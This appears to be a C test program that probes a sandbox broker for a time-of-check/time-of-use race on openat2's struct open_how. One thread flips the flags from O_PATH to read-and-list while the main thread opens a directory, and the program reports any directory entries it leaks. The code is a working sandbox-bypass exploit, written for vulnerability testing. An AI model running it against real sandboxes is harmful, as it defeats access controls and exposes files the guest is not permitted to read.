// race_how: TOCTOU on openat2's struct open_how. The main thread calls
// openat2(AT_FDCWD, PATH, &how) in a loop while a second thread flips
// how.flags between O_PATH (which only needs the right to look at PATH) and
// O_RDONLY|O_DIRECTORY (which needs the right to list it). If the broker
// decided on one copy of `how` and the kernel used another, the guest ends
// up with a readable descriptor for a directory it may only look at.
// Usage: race_how DIR ITERATIONS MAX_SECONDS
// Prints "opath=N readable=N listed=N denied=N other=N iterations=N" and
// "LISTED <name>" for the first entries it managed to read.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/openat2.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <sched.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static struct open_how how;
static atomic_int stop, started;

static void* flipper(void* unused) {
  (void)unused;
  volatile unsigned long long* flags = &how.flags;
  atomic_store(&started, 1);
  while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
    *flags = O_PATH;
    *flags = O_RDONLY | O_DIRECTORY;
  }
  return NULL;
}

static double now_s(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

int main(int argc, char** argv) {
  if (argc < 4) return 2;
  setvbuf(stdout, NULL, _IOLBF, 0);
  const char* dir = argv[1];
  long iterations = atol(argv[2]);
  double deadline = now_s() + atof(argv[3]);
  memset(&how, 0, sizeof how);
  how.flags = O_PATH;
  pthread_t t;
  if (pthread_create(&t, NULL, flipper, NULL) != 0) return 1;
  // Where the kernel decides, openat2 returns fast: the flipper must be
  // running before the loop starts, and get a turn now and then on a
  // loaded machine, or every open sees the same flags.
  while (!atomic_load(&started)) sched_yield();
  long n_opath = 0, n_readable = 0, n_listed = 0, n_denied = 0, n_other = 0, i;
  for (i = 0; i < iterations; ++i) {
    if ((i & 63) == 0 && now_s() > deadline) break;
    if ((i & 15) == 0) sched_yield();
    int fd = (int)syscall(SYS_openat2, AT_FDCWD, dir, &how, sizeof how);
    if (fd < 0) {
      if (errno == EACCES || errno == EPERM) ++n_denied;
      else ++n_other;
      continue;
    }
    int fl = fcntl(fd, F_GETFL);
    if (fl >= 0 && (fl & O_PATH)) {
      ++n_opath;
      close(fd);
      continue;
    }
    ++n_readable;
    char buf[4096];
    long n = syscall(SYS_getdents64, fd, buf, sizeof buf);
    for (long off = 0; off < n;) {
      struct dirent64* d = (struct dirent64*)(buf + off);
      if (strcmp(d->d_name, ".") != 0 && strcmp(d->d_name, "..") != 0 && ++n_listed <= 5)
        printf("LISTED %s\n", d->d_name);
      off += d->d_reclen;
    }
    close(fd);
  }
  atomic_store(&stop, 1);
  pthread_join(t, NULL);
  printf("opath=%ld readable=%ld listed=%ld denied=%ld other=%ld iterations=%ld\n", n_opath, n_readable, n_listed,
         n_denied, n_other, i);
  return 0;
}
